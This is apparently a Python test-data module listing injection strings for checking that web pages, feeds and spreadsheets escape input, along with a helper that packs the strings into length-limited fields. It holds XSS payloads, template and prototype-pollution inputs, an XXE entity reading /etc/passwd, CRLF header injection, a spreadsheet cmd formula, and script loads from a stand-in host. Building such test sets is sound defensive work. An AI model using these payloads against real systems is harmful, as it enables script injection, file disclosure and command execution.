"""Texts that would do something if a page, a feed or a spreadsheet took them for more than text.

Each has the word ``xss`` where it would name or call something, so that it is known again in whatever it became.
"""

TEXTS = (
    # Elements
    "<script>xss()</script>",
    "<ScRiPt src=//xss.example/x.js></sCrIpT>",
    "<script/xss src='data:text/javascript,xss()'></script>",
    "<img src=x onerror=xss()>",
    "<img/src=`x`onerror=xss()>",
    "<svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=xss onload=xss()>#xss'/></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=xss()>",
    "<iframe srcdoc='<script>xss()</script>'></iframe>",
    "<object data='javascript:xss()'>",
    "<embed src='javascript:xss()'>",
    "<base href='https://xss.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<link rel=stylesheet href='//xss.example/x.css'>",
    "<style>@import '//xss.example/x.css';</style>",
    "<form action='javascript:xss()'><button>xss</button></form>",
    "<details open ontoggle=xss()>xss</details>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<xss-element onclick=xss()>xss</xss-element>",
    # Out of where the text stands
    '"><script>xss()</script>',
    "'><img src=x onerror=xss()>",
    '" onmouseover="xss()" x="',
    "' onfocus='xss()' autofocus x='",
    "` onclick=`xss()` x=`",
    "</title><script>xss()</script>",
    "</textarea><svg onload=xss()>",
    "</script><script>xss()</script>",
    "--><script>xss()</script><!--",
    "]]><script>xss()</script><![CDATA[",
    "</option></select><img src=x onerror=xss()>",
    "</style><img src=x onerror=xss()>",
    # Scripts and JSON in pages
    '";xss();//',
    "'-xss()-'",
    '\\";xss();//',
    "${xss()}",
    "\u2028xss()\u2029",
    '{"__proto__": {"xss": 1}}',
    # Addresses
    "javascript:xss()",
    "java\tscript:xss()",
    "data:text/html,<script>xss()</script>",
    "vbscript:xss()",
    # Templates
    "{{ xss }}{% debug %}{% include 'xss' %}",
    "{{constructor.constructor('xss()')()}}",
    "%(xss)s {xss.__class__} #{xss}",
    # Other ways to write the same
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "%3Cscript%3Exss()%3C/script%3E",
    "\uff1cscript\uff1exss()\uff1c/script\uff1e",
    "\u202e<script>xss()</script>\u202c",
    "<\u00adscript>xss()</\u00adscript>",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "<<script>xss()//<</script>",
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '<svg></p><style><a title="</style><img src onerror=xss()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    # XML and headers
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY xss SYSTEM 'file:///etc/passwd'>]>&xss;",
    "<key id='xss' for='node'/>",
    "x\r\nSet-Cookie: xss=1\r\n\r\n<script>xss()</script>",
    # Formulas
    '=HYPERLINK("https://xss.example","xss")',
    "@SUM(1+1)*cmd|' /C xss'!A0",
)
SHORT = "\"'><b xss>"  # fits almost every field
# What no database takes, or no text holds; it comes in addresses alone.
SENT = (
    "<scr\x00ipt>xss()</script>",
    '\x00"><img src=x onerror=xss()>',
    "x\r\nLocation: https://xss.example/",
    "\x1b]0;xss\x07",
)

ADDRESSES = (
    "javascript:xss()",
    " javascript:xss()",
    "JaVaScRiPt:xss()",
    "java\tscript:xss()",
    "java\nscript:xss()",
    "\x01javascript:xss()",
    "javascript://example.org/%0axss()",
    "javascript:https://example.org",
    "data:text/html,<script>xss()</script>",
    "vbscript:xss()",
    "file:///etc/passwd",
    "ftp://example.org/xss",
    "//xss.example/",
    "https:xss.example",
    "https://",
    "https://example.org/ onclick=xss()",
    "https://example.org/\r\nSet-Cookie: xss=1",
    "&#106;avascript:xss()",
    "\\\\xss.example\\x",
)
SOUND_BUT_ODD = (
    'https://example.org/"><script>xss()</script>',
    "https://example.org/'onmouseover='xss()",
    "https://example.org/?q=<img/src/onerror=xss()>#javascript:xss()",
)


def packed(texts, room):
    """The texts in as few as possible of at most ``room`` characters; what does not fit by itself is left out."""
    packs = []
    for text in texts:
        if packs and len(packs[-1]) + 1 + len(text) <= room:
            packs[-1] += f" {text}"
        elif len(text) <= room:
            packs.append(text)
    return packs or [SHORT[:room]]
